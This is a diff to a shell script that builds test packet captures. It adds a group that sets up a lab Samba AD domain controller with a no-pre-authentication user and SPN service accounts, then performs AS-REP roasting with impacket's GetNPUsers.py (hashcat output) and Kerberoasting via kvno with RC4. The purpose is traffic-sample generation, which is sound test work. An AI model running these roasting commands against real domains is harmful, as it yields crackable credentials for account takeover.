@@ -27,6 +27,9 @@
 #         user's NTLM logon on the same connection),
 #         smb1logoff (logons after a LOGOFF_ANDX against impacket's SMB1
 #         server, which answers it with UID 0),
+#         roast (Kerberos roasting against the AD DC: impacket's
+#         GetNPUsers.py and GetUserSPNs.py -request, and MIT kinit of an
+#         account that does not require pre-authentication),
 #         smb1 (SMB1 logons: NTLMSSP in SPNEGO, and without SPNEGO; with
 #         smb1dos: DOS-form errors, a file in use in both forms, too many
 #         open files, and the MS17-010 check, smb1plain: a password sent
@@ -1600,6 +1603,77 @@ group_krbfallback() {
     make_bad_keytab
     kinit_quiet alice
     capture krb5-ap-bad-server-key-then-ntlm "host $DC_IP" krb_bad_key_fallback
+    kdestroy -q 2>/dev/null || true
+    dc_stop
+}
+
+# ---------------------------------------------------------------- group roast
+# Roasting (offline password cracking of Kerberos replies) against the AD DC.
+# paul does not require Kerberos pre-authentication (userAccountControl
+# |= UF_DONT_REQUIRE_PREAUTH 0x400000); svc_sql and svc_web are user
+# accounts with an SPN.  impacket's GetNPUsers.py sends an AS-REQ without
+# PA-ENC-TIMESTAMP, RC4 alone, for each name of a list (alice and svc_sql
+# require pre-authentication, nosuchuser does not exist, paul gets an
+# AS-REP).  Samba 4.17's Heimdal KDC asks every client to pre-authenticate
+# unless its [kdc] require-preauth is false and the krbtgt entry, the
+# AS-REQ's server, has the flag too (Heimdal's require_preauth_p: the
+# config, the client's or the server's flag); both are set here, paul's
+# flag then decides.  Kerberoasting: impacket 0.10's GetUserSPNs.py cannot
+# run against Samba (its LDAP login is a Sicily NTLM bind, which Samba's
+# LDAP server does not implement, and its TGS-REQ has no checksum in the
+# authenticator, which the KDC refuses: KRB_AP_ERR_INAPP_CKSUM, see
+# impacket-client-krb5-dc-inapp-cksum), so MIT kinit (AES offered) and
+# kvno -e arcfour-hmac send the same requests: a TGS-REQ offering RC4
+# alone for each SPN.  MIT kinit of paul is the ordinary logon of such an
+# account: its AS-REQ (all enctypes, no pre-auth) gets the AS-REP.
+ROAST_SPN_SQL=MSSQLSvc/sql.samples.smbscope.test:1433
+ROAST_SPN_WEB=HTTP/web.samples.smbscope.test
+roast_users() {
+    local base u
+    for u in paul svc_sql svc_web; do
+        samba-tool user create "$u" "$PW_ALICE" -s "$DCCONF" >/dev/null
+    done
+    samba-tool spn add "$ROAST_SPN_SQL" svc_sql -s "$DCCONF" >/dev/null
+    samba-tool spn add "$ROAST_SPN_WEB" svc_web -s "$DCCONF" >/dev/null
+    base=$(ldbsearch -H "$DCD/private/sam.ldb" -s base -b '' defaultNamingContext 2>/dev/null |
+           sed -n 's/^defaultNamingContext: //p')
+    # 0x400200: UF_DONT_REQUIRE_PREAUTH | UF_NORMAL_ACCOUNT
+    ldbmodify -H "$DCD/private/sam.ldb" >/dev/null <<END_LDIF
+dn: CN=paul,CN=Users,$base
+changetype: modify
+replace: userAccountControl
+userAccountControl: 4194816
+END_LDIF
+    printf '\n[kdc]\n    require-preauth = false\n' >>"$KRB5_CONFIG"
+    ldbmodify -H "$DCD/private/sam.ldb" >/dev/null <<END_LDIF
+dn: CN=krbtgt,CN=Users,$base
+changetype: modify
+replace: userAccountControl
+userAccountControl: 4194818
+END_LDIF
+}
+asrep_roast() {
+    printf 'alice\npaul\nnosuchuser\nsvc_sql\n' >"$T/roast-users.txt"
+    run $PY "$IMPACKET_EX/GetNPUsers.py" "$REALM/" -usersfile "$T/roast-users.txt" \
+        -dc-ip $DC_IP -no-pass -format hashcat -outputfile "$T/asrep.hashes"
+}
+kerberoast() {
+    kinit_run alice "$PW_ALICE"
+    run kvno -e arcfour-hmac "$ROAST_SPN_SQL" "$ROAST_SPN_WEB"
+}
+
+group_roast() {
+    log "group roast: AS-REP roasting and Kerberoasting against the AD DC on $DC_IP"
+    impacket_examples
+    dc_provision
+    roast_users
+    dc_start
+    local H="host $DC_IP and port 88"
+    kdestroy -q 2>/dev/null || true
+    capture krb5-asrep-roasting "$H" asrep_roast
+    kdestroy -q 2>/dev/null || true
+    capture krb5-kerberoasting "$H" kerberoast
+    capture krb5-kinit-no-preauth "$H" kinit_run paul "$PW_ALICE"
     kdestroy -q 2>/dev/null || true
     dc_stop
 }
